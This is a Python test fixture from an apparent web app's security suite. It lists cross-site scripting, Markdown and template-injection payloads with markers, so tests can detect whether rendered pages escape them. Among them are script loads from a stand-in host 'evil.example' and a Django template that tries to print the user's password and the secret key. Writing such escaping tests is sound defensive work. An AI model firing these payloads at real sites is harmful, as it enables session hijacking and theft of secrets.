"""Script injection payloads. Each carries a unique marker (`pwn00x`, `pwn01x`, ...) in the part
that would run, so a page that showed one as markup would be caught with its marker, and a page
that shows it as text shows the marker as text."""

from __future__ import annotations

from tests.security.inspect_html import MARKER

_TEMPLATES = [
    # Script elements.
    "<script>alert('MARK')</script>",
    "<ScRiPt>alert('MARK')</sCrIpT>",
    '<script src="https://evil.example/MARK.js"></script>',
    "<<script>script>alert('MARK')<</script>/script>",
    "<script\n>alert('MARK')</script\n>",
    # Event handlers.
    "<img src=x onerror=alert('MARK')>",
    "<IMG SRC=x OnErRoR=alert('MARK')>",
    '<img src="x" onerror="&#97;lert(\'MARK\')">',
    "<body onload=alert('MARK')>",
    "<details open ontoggle=alert('MARK')>",
    "<input autofocus onfocus=alert('MARK')>",
    "<video><source onerror=alert('MARK')></video>",
    '<a href="https://example.com/" onclick="alert(\'MARK\')">x</a>',
    # SVG and MathML.
    "<svg onload=alert('MARK')>",
    "<svg/onload=alert('MARK')//",
    "<svg><script>alert('MARK')</script></svg>",
    "<svg><a xlink:href=\"javascript:alert('MARK')\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('MARK')>",
    # Addresses that run script or carry a document.
    "<a href=\"javascript:alert('MARK')\">x</a>",
    "<a href=\"&#106;avascript:alert('MARK')\">x</a>",
    "<a href=\" jav&#x09;ascript:alert('MARK')\">x</a>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#MARK">x</a>',
    "<iframe src=\"javascript:alert('MARK')\"></iframe>",
    "<iframe srcdoc=\"<script>alert('MARK')</script>\"></iframe>",
    "<object data=\"javascript:alert('MARK')\"></object>",
    "<embed src=\"javascript:alert('MARK')\">",
    "<base href=\"javascript:alert('MARK')//\">",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'MARK\')">',
    "<form action=\"javascript:alert('MARK')\"><button>x</button></form>",
    "<button formaction=\"javascript:alert('MARK')\">x</button>",
    # Markdown links and images.
    "[click](javascript:alert('MARK'))",
    "[click](JaVaScRiPt:alert('MARK'))",
    "[click](&#106;avascript:alert('MARK'))",
    "[click](vbscript:msgbox('MARK'))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#MARK)",
    "![MARK](javascript:alert('MARK'))",
    "![MARK](data:image/png;base64,MARK)",
    "<javascript:alert('MARK')>",
    "[click][r]\n\n[r]: javascript:alert('MARK')",
    "[click](https://example.com/ \"MARK\" onclick=alert('MARK'))",
    # Styles.
    "<div style=\"background:url(javascript:alert('MARK'))\">x</div>",
    "<div style=\"width: expression(alert('MARK'))\">x</div>",
    "<style>@import 'https://evil.example/MARK.css';</style>",
    # Breaking out of an attribute or an element.
    "\"><svg onload=alert('MARK')>",
    "'><img src=x onerror=alert('MARK')>",
    '" onmouseover="alert(\'MARK\')" x="',
    "</textarea><script>alert('MARK')</script>",
    "</title><script>alert('MARK')</script>",
    "--><script>alert('MARK')</script><!--",
    "<!--<img src=\"--><img src=x onerror=alert('MARK')//\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('MARK')>\">",
    "```\"><img src=x onerror=alert('MARK')>\ncode\n```",
    # htmx: attributes that would make the reader's browser act.
    '<div hx-post="/chat/new/?MARK" hx-trigger="load">x</div>',
    '<div hx-ext="ws" ws-connect="/ws/MARK/">x</div>',
    # Entity-encoded and otherwise disguised.
    "&lt;script&gt;alert('MARK')&lt;/script&gt;",
    "&#60;img src=x onerror=alert('MARK')&#62;",
    "%3Cscript%3Ealert('MARK')%3C/script%3E",
    "\u2028\u2029</script><script>alert('MARK')</script>",
    # Template injection: Django's, and client-side ones.
    "{{ 7|add:7 }}{% debug %}{% csrf_token %}MARK",
    "{{ request.user.password }}{{ settings.SECRET_KEY }}MARK",
    "${alert('MARK')}{{constructor.constructor('alert(1)')()}}",
]

PAYLOADS = [template.replace("MARK", f"pwn{i:02d}x") for i, template in enumerate(_TEMPLATES)]
# Template injection: harmless unless some engine evaluated the text.
TEMPLATES = [p for p in PAYLOADS if "{{" in p or "{%" in p]
# Markdown drops these markers on purpose: an image (no <img> is allowed, its alt text goes with
# it), and the words after a code fence's language.
MARKDOWN_DROPS = [p for p in PAYLOADS if p.startswith(("![", "```"))]
# What fits a name (a session, a checkpoint, an API key): one line, at most 100 characters.
NAMES = [p for p in PAYLOADS if "\n" not in p and "\u2028" not in p and len(p) <= 100]


def marker(payload: str) -> str:
    found = MARKER.search(payload)
    assert found, payload
    return found.group()
